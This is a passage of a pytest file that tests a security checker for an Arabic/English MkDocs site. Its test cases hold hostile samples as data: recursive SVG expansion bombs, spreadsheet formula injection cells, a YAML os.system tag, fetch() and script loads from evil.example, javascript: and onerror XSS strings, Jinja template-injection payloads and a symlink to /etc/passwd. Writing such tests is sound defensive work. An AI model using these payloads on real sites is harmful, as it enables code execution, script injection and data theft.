        f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * times + "</g>" for n in range(1, levels)
    ]
    return "".join(['<rect id="a0"/>', *rows])


@pytest.mark.parametrize(
    "inner",
    [copied(9, 10), copied(30, 2), '<g id="a"><use href="#a"/></g>', '<g id="a"><use xlink:href="#b"/></g><g id="b"><use href="#a"/></g>', '<g id="a">' + "<path/>" * 1500 + "</g>" + '<use href="#a"/>' * 1500],
)  # fmt: skip
def test_copies_of_copies_hold_no_browser(tiny, inner):
    write(tiny, "docs/assets/x.svg", SVG.format(inner))

    assert found(tiny) == {("docs/assets/x.svg", 2, "unsafe-drawing")}


def test_some_copies_pass(tiny):
    write(
        tiny,
        "docs/assets/x.svg",
        SVG.format(copied(3, 10) + '<use href="#a2"/><use href="#gone"/>'),
    )

    assert found(tiny) == set()


def test_a_plain_drawing_passes(tiny):
    inner = '<title>a</title><defs><linearGradient id="g"/></defs><rect fill="url(#g)" style="fill:red"/><use href="#g"/>'
    write(tiny, "docs/assets/x.svg", '<?xml version="1.0" encoding="utf-8"?>\n' + SVG.format(inner))

    assert found(tiny) == set()


# Data

BAD_CSV = {
    "semicolons": ("a;b\n1;2\n", 1),
    "tabs": ("a\tb\n1\t2\n", 1),
    "sep": ("sep=;\na,b\n", 1),
    "a short row": ("a,b\n1\n", 2),
    "a long row": ("a,b\n1,2,3\n", 2),
    "an open quote": ('a,b\n1,"2\n3,4\n', 2),
    "a line break in a number": ('a,b\n1,"2.\n5"\n', 2),
    "a direction over two cells": ("a,b\n\u2066x,y\u2069\n", 2),
    "a quote within": ('a,b\n1,2"3"\n', 2),
    "a quote that ends too early": ('a,b\n1,2\n4,"5"6\n', 3),
    "a column twice": ("a,a\n1,2\n", 1),
    "a column without a name": ("a,\n1,2\n", 1),
    "a blank in a name": ("a, b\n1,2\n", 1),
    "a key twice": ("id,b\n1,2\n3,4\n1,5\n", 4),
    "an empty row": ("a,b\n\n1,2\n", 2),
    "nothing": ("", 1),
    "a date of Excel": ("a,b\nx,2-Mar\n", 2),
    "a month of Excel": ("a,b\nx,Mar-24\n", 2),
    "powers of ten": ("a,b\nx,1E+05\n", 2),
    "powers with a fraction": ("a,b\nx,1.23457E+11\n", 2),
    "a formula": ("a,b\nx,=1+1\n", 2),
    "a call": ("a,b\nx,@SUM(A1)\n", 2),
    "plus": ("a,b\nx,+cmd|x\n", 2),
    "minus": ("a,b\nx,-cmd|x\n", 2),
    "a wide formula": ("a,b\nx,＝1\n", 2),
    "an error": ("a,b\nx,#REF!\n", 2),
    "signs": ("a,b\nx,######\n", 2),
    "NaN": ("a,b\nx,NaN\n", 2),
    "Infinity": ("a,b\nx,-Infinity\n", 2),
    "thousands": ('a,b\nx,"1,234.5"\n', 2),
    "thousands with blanks": ("a,b\nx,1 234\n", 2),
    "a decimal comma": ('a,b\nx,"3,5"\n', 2),
    "Arabic digits": ("a,b\nx,١٢٣\n", 2),
    "percent": ("a,b\nx,5%\n", 2),
    "a currency": ("a,b\nx,$5\n", 2),
    "another minus": ("a,b\nx,−5\n", 2),
    "a minus behind": ("a,b\nx,5-\n", 2),
    "in brackets": ("a,b\nx,(5)\n", 2),
    "blanks": ("a,b\nx, 5 \n", 2),
    "a leading nought": ("a,b\nx,007\n", 2),
    "a day": ("a,b\nx,01/02/2024\n", 2),
    "true": ("a,b\nx,TRUE\n", 2),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD_CSV)
def test_a_table_is_read_by_everybody_the_same_way(tiny, name):
    text, line = BAD_CSV[name]
    write(tiny, "docs/data/x.csv", text)

    assert found(tiny) == {("docs/data/x.csv", line, "data-file")}


def test_a_nul_in_a_table_is_named(tiny):
    write(tiny, "docs/data/x.csv", "a,b\nx,\0\n")

    assert ("docs/data/x.csv", 2, "hidden-character") in found(tiny)


@pytest.mark.parametrize(
    "cell",
    each(["240.11", "-6.9", "0", "", "2024-05", "–", "a, b", "A-1", "مليار"]),
)
def test_an_ordinary_cell_passes(tiny, cell):
    write(tiny, "docs/data/x.csv", f'a,b\nx,"{cell}"\n')

    assert found(tiny) == set()


BAD_TOML = {
    "an open quote": ('a = "b\n', 1),
    "a key twice": ("[a]\nb = 1\nb = 2\n", 3),
    "a table twice": ("[a]\nb = 1\n[a]\nc = 2\n", 3),
    "no value": ("a =\n", 1),
    "no quotes": ("a = b\n", 1),
    "nan": ("a = nan\n", 1),
    "inf": ("[a]\nb = -inf\n", 2),
    "deep": ("a = " + "[\n" * 900 + "\n" + "]\n" * 900, None),
    "a huge number": ("a = " + "9" * 3_900 + "\n", None),
    "no such day": ("a = 2026-02-30\n", 1),
    "not closed": ("[a\nb = 1\n", 1),
    "words": ("hello\n", 1),
    "more than a number can be": ("[a]\nb = 1e999\n", 2),
    "a name of another alphabet": ('[a]\n["trаde"]\nb = 1\n', 2),
    "a name of markup": ("[a]\n['<img src=x>']\nb = 1\n", 2),
    "no name": ('[a]\nb = 1\n[""]\nc = 1\n', 3),
    "a blank around a name": ('["a "]\nc = 1\n', 1),
}


@pytest.mark.parametrize("name", BAD_TOML)
def test_toml_is_read_or_its_fault_has_a_line(tiny, name):
    text, line = BAD_TOML[name]
    write(tiny, "docs/data/x.toml", text)

    findings = found(tiny)
    assert line is None or findings == {("docs/data/x.toml", line, "data-file")}


@pytest.mark.parametrize(
    "line",
    ['c = "d\\u202Ee"', '"c\\u200b" = "d"', 'c = ["d", {e = "\\U0000202E"}]', 'c = "\u2067d"'],
)
def test_an_escape_hides_nothing_in_toml(tiny, line):
    write(tiny, "docs/data/x.toml", f'a = "b"\n{line}\n')

    assert found(tiny) == {("docs/data/x.toml", 2, "hidden-character")}


def test_an_escape_hides_nothing_in_json(tiny):
    write(tiny, "docs/data/x.json", '{"a": "b",\n"c": ["d\\u202Ee"]}\n')

    assert found(tiny) == {("docs/data/x.json", 2, "hidden-character")}


@pytest.mark.parametrize(
    "line",
    ['url = "javascript:alert(1)"', 'archive = "java\\tscript:alert(1)"', 'url = "https://bank.example@evil.example/"', 'other = ["https://bank.example@evil.example/"]', 'url = "ftp://a.example/"'],
)  # fmt: skip
def test_an_address_in_toml_leads_where_it_seems_to(tiny, line):
    write(tiny, "docs/data/x.toml", f'archive = "Archived copy"\n[a]\n{line}\n')

    assert found(tiny) == {("docs/data/x.toml", 3, "unsafe-link")}


@pytest.mark.parametrize(
    ("text", "line"),
    [('{\n"a": NaN}', 2), ('{"a": 1,\n"a": 2}', 2), ("{\n", 2), ("[" * 100_000, 1), ("", 1), ("{'a': 1}", 1), ('{"a": 1,}', 1)],
)  # fmt: skip
def test_json_is_strict(tiny, text, line):
    write(tiny, "docs/data/x.json", text)

    assert found(tiny) == {("docs/data/x.json", line, "data-file")}


# The configuration

CONFIGURATION = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
BAD_CONFIGURATION = {
    "a tag": ("site_name: ميزان", 'site_name: !!python/object/apply:os.system ["x"]'),
    "another tag": ("site_name: ميزان", "site_name: !relative x"),
    "a hook": ("  - scripts/hooks/website.py", "  - docs/data/evil.py"),
    "a hook above": ("  - scripts/hooks/website.py", "  - ../evil.py"),
    "a hook that is not there": ("  - scripts/hooks/website.py", "  - scripts/hooks/gone.py"),
    "a plugin": ("  - i18n:", "  - exec\n  - i18n:"),
    "an extension": ("  - abbr", "  - pymdownx.snippets\n  - abbr"),
    "a script from elsewhere": ("  - assets/stylesheets/fonts.css", "  - https://evil.example/x.css"),
    "a script beside the scheme": ("  - assets/stylesheets/fonts.css", "  - //evil.example/x.css"),
    "a script that is not there": ("  - path: assets/javascripts/language_switch.js", "  - path: assets/javascripts/gone.js"),
    "fonts": ("  font: false", "  font:\n    text: Roboto"),
    "templates": ("  custom_dir: overrides", "  custom_dir: /tmp/evil"),
    "a repository": ("strict: true", "strict: true\nrepo_url: https://github.com/a/b"),
    "inherit": ("strict: true", "strict: true\nINHERIT: /etc/evil.yml"),
    "not strict": ("strict: true", "strict: false"),
    "a key twice": ("strict: true", "strict: true\nstrict: true"),
    "an anchor": ("strict: true", "strict: &a true"),
    "docs elsewhere": ("docs_dir: docs", "docs_dir: /etc"),
    "analytics": ("  generator: false", "  generator: false\n  analytics:\n    provider: google"),
    "markup in the name": ("site_name: ميزان", 'site_name: "<script>"'),
    "markup at the foot": ("copyright: 'ميزان", "copyright: '<img src=x onerror=alert(1)>ميزان"),
    "markup in the menu": ("  - Trade: trade.md", '  - "<img src=x>": trade.md'),
    "a menu that leads out": ("  - Trade: trade.md", "  - Trade: https://evil.example/"),
    "a script in the menu": ("  - Trade: trade.md", '  - Trade: "javascript:alert(1)"'),
    "tooltips": ("    - navigation.top", "    - content.tooltips\n    - navigation.top"),
    "a broken line": ("strict: true", "strict: true: false"),
    "a tab": ("strict: true", "strict: true\n\tx: y"),
    "a formatter": ("  - pymdownx.superfences", "  - pymdownx.superfences:\n      custom_fences:\n        - format: python/x"),
    "markup in a translation": ("            Trade: التجارة", '            Trade: "<b>"'),
    "deep": ("strict: true", "x: " + "[" * 1500),
    "a scheme": ('"http://127.0.0.1:8000/"', '"javascript:alert(1)"'),
    "a folder outside": ("  - overrides", "  - /etc"),
    "strictness left out": ("strict: true\n", ""),
    "the theme's fonts left out": (next(line for line in CONFIGURATION.splitlines(keepends=True) if "font: false" in line), ""),
    "templates left out": ("  custom_dir: overrides\n", ""),
    "a hook left out": ("  - scripts/hooks/website.py\n", ""),
    "a password of the machine": ("site_name: ميزان", "site_name: !ENV GITHUB_TOKEN"),
    "one of two passwords": ("!ENV [SITE_URL, ", "!ENV [SITE_URL, DEPLOY_KEY, "),
    "an invisible letter by its number": ("site_name: ميزان", 'site_name: "a\\u202Eb"'),
    "nothing at all": (CONFIGURATION, ""),
    "fonts of one language": ("          theme:\n", "          theme:\n            font:\n              text: Roboto\n"),
    "tooltips of one language": ("          theme:\n", "          theme:\n            features: [content.tooltips]\n"),
    "templates of one language": ("          theme:\n", "          theme:\n            custom_dir: docs/data\n"),
    "analytics of one language": ("          name: English\n", "          name: English\n          extra: {analytics: x}\n"),
    "a menu of one language": ("          name: English\n", "          name: English\n          nav: ['https://evil.example/']\n"),
    "a language that is a path": ("locale: en", "locale: ../en"),
    "a check of links turned off": ("    not_found: warn\n    anchors", "    not_found: ignore\n    anchors"),
    "an icon that is a path": ("logo: mizan/balance", "logo: ../../docs/data/x"),
    "an attribute": ('media: "(prefers-color-scheme: light)"', "media: '\" onload=\"alert(1)'"),
    "markup in a setting": ('permalink: "#"', 'permalink: "<img src=x>"'),
    "a template in a setting": ('data_to: "2026-04"', 'data_to: "{{ config }}"'),
    "a home that runs": ("  generator: false", "  homepage: javascript:alert(1)\n  generator: false"),
    "a home elsewhere": ("  generator: false", "  homepage: //evil.example/\n  generator: false"),
}  # fmt: skip


@pytest.fixture
def configured(tiny):
    """The tiny tree with the site's own configuration, hooks and assets."""
    for path in (
        "mkdocs.yml",
        "scripts/hooks",
        "docs/assets/stylesheets",
        "docs/assets/javascripts",
    ):
        files = (ROOT / path).rglob("*.*") if (ROOT / path).is_dir() else [ROOT / path]
        for file in files:
            if file.suffix != ".pyc" and file.is_file():
                write(tiny, str(file.relative_to(ROOT)), file.read_bytes())
    return tiny


def test_the_site_s_own_configuration_passes(configured):
    assert found(configured) == set()


@pytest.mark.parametrize("name", BAD_CONFIGURATION)
def test_the_configuration_names_nothing_unknown(configured, name):
    old, new = BAD_CONFIGURATION[name]
    assert CONFIGURATION.count(old) >= 1
    text = CONFIGURATION.replace(old, new, 1)
    write(configured, "mkdocs.yml", text)

    lines = {line for path, line, rule in found(configured) if rule == "site-configuration"}
    first = text[: text.index(new)].count("\n") + 1 if new else 1
    assert lines
    if not new:  # what is missing is told where it belongs: at the top, or in its part
        return
    assert lines <= set(range(first, first + new.count("\n") + 3))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("docs/assets/stylesheets/x.css", "@import url(https://evil.example/x.css);"),
        ("docs/assets/stylesheets/x.css", "a { background: url(//evil.example/x.png) }"),
        ("docs/assets/stylesheets/x.css", "a { background: u\\72 l(//evil.example/x.png) }"),
        ("docs/assets/stylesheets/x.css", "@\\69mport '//evil.example/x.css';"),
        (
            "docs/assets/stylesheets/x.css",
            'a{content:"/*"} b{background:url(//evil.example/x)} c{content:"*/"}',
        ),
        ("docs/assets/stylesheets/x.css", "{#} a{background:url(//evil.example/x)} b{#}"),
        (
            "docs/assets/javascripts/x.js",
            'const a = "/*"; fetch("//evil.example/"); const b = "*/";',
        ),
        ("docs/assets/javascripts/x.js", 'fetch("\\x68ttps://evil.example/")'),
        ("docs/assets/javascripts/x.js", 'import x from "https://evil.example/x.js";'),
        ("docs/assets/javascripts/x.js", "eval(location.hash)"),
        ("docs/assets/javascripts/x.js", 'fetch("//evil.example/")'),
        ("overrides/main.html", '<script src="https://evil.example/x.js"></script>'),
        ("overrides/main.html", "<script>alert(1)</script>"),
        ("overrides/main.html", '<img src="//evil.example/x.png">'),
        ("overrides/main.html", '<link rel="stylesheet" href="https://evil.example/x.css">'),
        ("overrides/main.html", '<body onload="alert(1)">'),
        ("overrides/main.html", "{{ page.title | safe }}"),
        ("overrides/main.html", "<img src=x onerror=alert(1)>"),
        ("overrides/main.html", '<img src="https:evil.example/x.png">'),
        ("overrides/main.html", '<img src="\\\\evil.example/x.png">'),
        ("overrides/main.html", '<base href="/elsewhere/">'),
        ("overrides/main.html", "{{ ''.__class__.__mro__ }}"),
        ("overrides/main.html", '{% set x = lipsum | attr("__globals__") %}'),
        ("overrides/main.html", "{% autoescape false %}"),
        (
            "overrides/feed.xml",
            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        ),
        ("overrides/feed.xml", "<?xml-stylesheet href='x.xsl'?>"),
        ("overrides/feed.xml", "<!DOCTYPE x>"),
        ("overrides/feed.xml", '<urlset xmlns="http://www.w3.org/2000/svg">'),
        (
            "docs/assets/stylesheets/x.css",
            'a{background:image-set(url(x.png) 1x, "https://evil.example/x" 2x)}',
        ),
        ("docs/assets/stylesheets/x.css", "a{background:url(https:evil.example/x)}"),
        ("docs/assets/javascripts/x.js", 'location = "https://evil.example/"'),
        ("docs/assets/javascripts/x.js", "new EventSource(`//evil.example/`)"),
        ("overrides/main.html", "<img/onerror=alert(1)>"),
        ("overrides/main.html", '/* <script src="https://evil.example/x.js"></script> */'),
        ("overrides/main.html", '<a href="java&#115;cript:alert(1)">a</a>'),
        ("overrides/main.html", '<a href="java\tscript:alert(1)">a</a>'),
        ("overrides/main.html", '<form action="https://evil.example/">'),
        ("overrides/main.html", '<meta http-equiv="refresh" content="0;url=x">'),
    ],
)
def test_templates_styles_and_scripts_fetch_nothing_from_elsewhere(tiny, path, text):
    write(tiny, path, f"\n{text}\n")

    assert found(tiny) == {(path, 2, "site-configuration")}


@pytest.mark.parametrize(
    ("path", "unit"),
    [("overrides/x.html", "{#a}"), ("overrides/x.html", "{{ "), ("overrides/x.html", "<a "), ("overrides/x.html", " " * 9), ("docs/assets/stylesheets/x.css", "\n//e "), ("docs/assets/stylesheets/x.css", "url(" + " " * 900), ("docs/assets/javascripts/x.js", "import" + " " * 900)],
)  # fmt: skip
def test_no_template_holds_the_gate(tiny, path, unit):
    write(tiny, path, unit * (60_000 // len(unit)))
    started = time.process_time()

    gate_findings(tiny)

    assert time.process_time() - started < 2


@pytest.mark.parametrize("path", ["docs/data/x.json", "docs/data/x.csv", "docs/en/x.md"])
def test_marks_beside_code_hold_nothing(tiny, path):
    write(tiny, path, ("ا\u200fا`x`" * 200 + "\n") * 200)
    started = time.process_time()

    gate_findings(tiny)

    assert time.process_time() - started < 2


def test_an_icon_is_no_template(tiny):
    write(tiny, "overrides/.icons/x/y.svg", SVG.format("<text>{{ config }}</text>"))

    assert found(tiny) == {("overrides/.icons/x/y.svg", 2, "site-configuration")}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("docs/assets/stylesheets/x.css", 'a{background:url("data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")} /* see https://a.example/ */'),
        ("docs/assets/stylesheets/x.css", 'a::after{content:"\\2192"} a{mask:url(../x.svg)}'),
        ("docs/assets/javascripts/x.js", 'const NS = "http://www.w3.org/2000/svg"; // see https://a.example/'),
        ("docs/assets/javascripts/x.js", 'import("./y.js"); const half = a / 2 // b / 3'),
        ("overrides/main.html", '{% set one = 1 %}<a href="https://a.example/">a</a>{# <script> #}'),
        ("overrides/sitemap.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{{ x | e }}</loc></url></urlset>'),
    ],
)  # fmt: skip
def test_what_templates_styles_and_scripts_need_passes(tiny, path, text):
    write(tiny, path, f"{text}\n")

    assert found(tiny) == set()


# One run, no crash, no hanging


def test_everything_is_told_in_one_run(tiny, capsys):
    write(tiny, "docs/en/a.md", HEAD + "<script></script>\n\n[a](javascript:x)\n")
    write(tiny, "docs/en/b.md", b"\xff")
    write(tiny, "docs/data/c.csv", "a,b\n1\n")
    write(tiny, "docs/assets/d.svg", "<svg/>")
    (tiny / "docs/en/e.md").symlink_to("/etc/passwd")

    assert run_command(check_sources.main, tiny, "--format", "json") == 1
    shown = capsys.readouterr().out
    names = (
        "unsafe-html",
        "unsafe-link",
        "file-encoding",
        "data-file",
        "unsafe-drawing",
        "file-kind",
    )
    assert [name for name in names if name not in shown] == []


@pytest.mark.parametrize("command", [check_all, sync_figures, check_parity])
def test_no_command_waits_at_a_pipe(tiny, command, capsys):
    (tiny / "docs/data/figures.toml").unlink()
    os.mkfifo(tiny / "docs/data/figures.toml")

    assert run_command(command.main, tiny) in {1, 2}
    assert "docs/data/figures.toml:0: error: file-kind" in capsys.readouterr().out


def test_a_folder_that_is_not_there_cannot_be_looked_at(tmp_path):
    assert run_command(check_sources.main, tmp_path / "gone") == 2
    assert run_command(check_sources.main, tmp_path) == 2


def test_the_whole_site_is_looked_at_in_two_seconds_and_200_megabytes():
    script = (
        "import resource, sys; from scripts.check_sources import main; main([]);"
        "used = resource.getrusage(resource.RUSAGE_SELF);"
        "print(used.ru_utime + used.ru_stime, used.ru_maxrss // 1024)"
    )

    result = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True
    )

    seconds, megabytes = result.stdout.split()[-2:]
    assert float(seconds) < 2
    assert int(megabytes) < 200
